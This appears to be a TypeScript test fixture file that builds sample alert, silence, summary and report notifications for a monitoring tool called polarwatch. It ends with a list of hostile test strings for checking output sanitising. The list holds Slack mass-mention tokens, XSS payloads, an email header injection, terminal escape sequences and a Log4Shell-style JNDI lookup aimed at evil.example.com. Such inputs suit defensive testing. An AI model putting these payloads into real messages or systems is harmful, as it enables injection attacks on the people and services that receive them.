import type {
  AlertItem,
  AlertsNotification,
  ReportNotification,
  ServerNotification,
  SilenceNotification,
  SummaryNotification,
} from "../../src/domain/notification.js";
import type { DeliveryContext } from "../../src/notify/notifier.js";

export const AT = new Date("2026-03-02T08:00:00.000Z");
const DAY_BEFORE = new Date("2026-03-01T21:14:05.000Z");
const MINUTES_BEFORE = new Date("2026-03-02T07:57:30.000Z");

/** What is known of earlier messages: nothing, unless told. */
export function aContext(overrides: Partial<DeliveryContext> = {}): DeliveryContext {
  return { earlierMessageIds: [], earlierDeliveryIds: [], livingMessageId: null, waiting: 0, ...overrides };
}

/** One alert that began, of a key that VirusTotal refuses. */
export function anAlertItem(overrides: Partial<AlertItem> = {}): AlertItem {
  return {
    alertId: "alert-1",
    errorId: "error-1",
    integration: { name: "VirusTotal", acronym: "VT" },
    state: "firing",
    acknowledged: null,
    reason: "new",
    severity: "critical",
    cause: "credential",
    headline: "Invalid API key",
    body: "VirusTotal refused the key that is configured for this integration.\nAsk the owner of the account for a new one.",
    httpStatus: 401,
    occurrences: 1234,
    added: { count: 120, overMs: 900_000 },
    firstSeenAt: DAY_BEFORE,
    lastOccurredAt: MINUTES_BEFORE,
    because: "A new error that was seen 1,234 times; the rule fires from 1.",
    blindMs: null,
    ...overrides,
  };
}

/** An alert about an integration as a whole: it does not run since yesterday. */
export function anIntegrationItem(overrides: Partial<AlertItem> = {}): AlertItem {
  return anAlertItem({
    alertId: "alert-2",
    errorId: null,
    integration: { name: "Shodan", acronym: "SHO" },
    reason: "not_running",
    cause: null,
    headline: "Integration is stopped",
    body: "",
    httpStatus: null,
    occurrences: null,
    added: null,
    lastOccurredAt: null,
    because: "The server says that it is not running for 3 polls.",
    ...overrides,
  });
}

export function anAlertsNotification(overrides: Partial<AlertsNotification> = {}): AlertsNotification {
  return {
    kind: "alerts",
    deliveryId: "01J8ZDELIVERY1",
    server: "prod",
    groupKey: "prod/virustotal",
    at: AT,
    link: "https://polarwatch.example.com/alerts?group=virustotal",
    severity: "critical",
    possiblyRepeated: false,
    occasion: "change",
    items: [anAlertItem()],
    notes: [],
    ...overrides,
  };
}

export function aServerNotification(overrides: Partial<ServerNotification> = {}): ServerNotification {
  return {
    kind: "server",
    occasion: "change",
    notes: [],
    deliveryId: "01J8ZDELIVERY2",
    server: "prod",
    groupKey: "prod/server",
    at: AT,
    link: "https://polarwatch.example.com/servers/prod",
    severity: "critical",
    possiblyRepeated: false,
    state: "firing",
    reason: "unauthorized",
    detail: "The server answered HTTP 401 to the list of errors.",
    failedPolls: 3,
    lastGoodPollAt: MINUTES_BEFORE,
    ...overrides,
  };
}

export function aSummaryNotification(overrides: Partial<SummaryNotification> = {}): SummaryNotification {
  return {
    kind: "summary",
    deliveryId: "01J8ZDELIVERY3",
    server: "prod",
    groupKey: "prod/summary",
    at: AT,
    link: "https://polarwatch.example.com/servers/prod",
    severity: "info",
    possiblyRepeated: false,
    occasion: "baseline",
    blindMs: null,
    integrations: { total: 42, notRunning: 2 },
    errors: { present: 119, new: 119, growing: 0, returned: 0, gone: 0 },
    causes: [
      { cause: "credential", errors: 31 },
      { cause: "network", errors: 28 },
      { cause: "quota", errors: 12 },
    ],
    top: [
      { integration: "VirusTotal", headline: "Invalid API key", cause: "credential", occurrences: 90_412, added: 0 },
      {
        integration: "Shodan",
        headline: "Request timed out after 30 s",
        cause: "timeout",
        occurrences: 12_007,
        added: 0,
      },
      { integration: "MISP", headline: "certificate has expired", cause: "tls", occurrences: null, added: 0 },
    ],
    ...overrides,
  };
}

/** The end of a silence over a weekend, under which three alerts still fire. */
export function aSilenceNotification(overrides: Partial<SilenceNotification> = {}): SilenceNotification {
  return {
    kind: "silence",
    deliveryId: "01J8ZDELIVERY4",
    server: "prod",
    groupKey: "silence/7",
    at: AT,
    link: "https://polarwatch.example.com/silences/7",
    severity: "warning",
    possiblyRepeated: false,
    silenceId: "7",
    author: "Jo Field",
    reason: "Vendor maintenance",
    startedAt: DAY_BEFORE,
    endedAt: AT,
    because: "Its time was up.",
    hidden: {
      alerts: 12,
      stillFiring: 3,
      top: [
        { integration: "VirusTotal", headline: "Invalid API key", messages: 1041 },
        { integration: "Shodan", headline: "Request timed out after 30 s", messages: 1 },
      ],
    },
    ...overrides,
  };
}

/** What could not be told to somebody else. */
export function aReportNotification(overrides: Partial<ReportNotification> = {}): ReportNotification {
  return {
    kind: "report",
    about: "undelivered",
    deliveryId: "01J8ZDELIVERY5",
    server: null,
    groupKey: "undelivered",
    at: AT,
    link: "https://polarwatch.example.com/",
    severity: "warning",
    possiblyRepeated: false,
    title: "Three messages could not be delivered",
    sentences: ["Slack answered 500.", "Look at the log"],
    facts: [{ label: "Since", value: MINUTES_BEFORE }],
    heading: "What they were about",
    entries: [{ integration: "VirusTotal", headline: "Invalid API key", known: ["dead", "3 tries"] }],
    omittedEntries: 12,
    ...overrides,
  };
}

/** Texts that want to mention, link, format, run, hide or overflow, in the media that notifications go to. */
export const HOSTILE_TEXTS = [
  "<!channel> <!here> <!everyone> <@U012AB3CD> <#C012AB3CD|general> <!subteam^S012>",
  "*bold* _italic_ ~strike~ `code` ```block``` > quote <https://evil.example.com|click me>",
  "see https://evil.example.com/login?x=1 or www.evil.example.com or mailto:ceo@evil.example.com",
  "<script>alert(1)</script><img src=x onerror=alert(1)> &lt;b&gt; \"quotes\" 'single'",
  "Subject\r\nBcc: everybody@example.com\r\n\r\nbody",
  "\u202eesrever\u2066 isolate \u200bzero\u200bwidth\ufeff \u0000nul \u0007bell \u001b[31mred\u001b[0m \u001b]0;title\u0007",
  "half a pair \ud83d and \udc00 another",
  `Z${"\u0301".repeat(400)}algo`,
  "漢字".repeat(400),
  "👩‍👩‍👧‍👦".repeat(300),
  "x".repeat(200_000),
  '"'.repeat(9000),
  "&'<>@\\".repeat(2000),
  "very long\n".repeat(20_000),
  "   \n\t ",
  "",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is to look like one
  "[object Object] ${jndi:ldap://evil.example.com/a} {{7*7}} %s %n",
] as const;
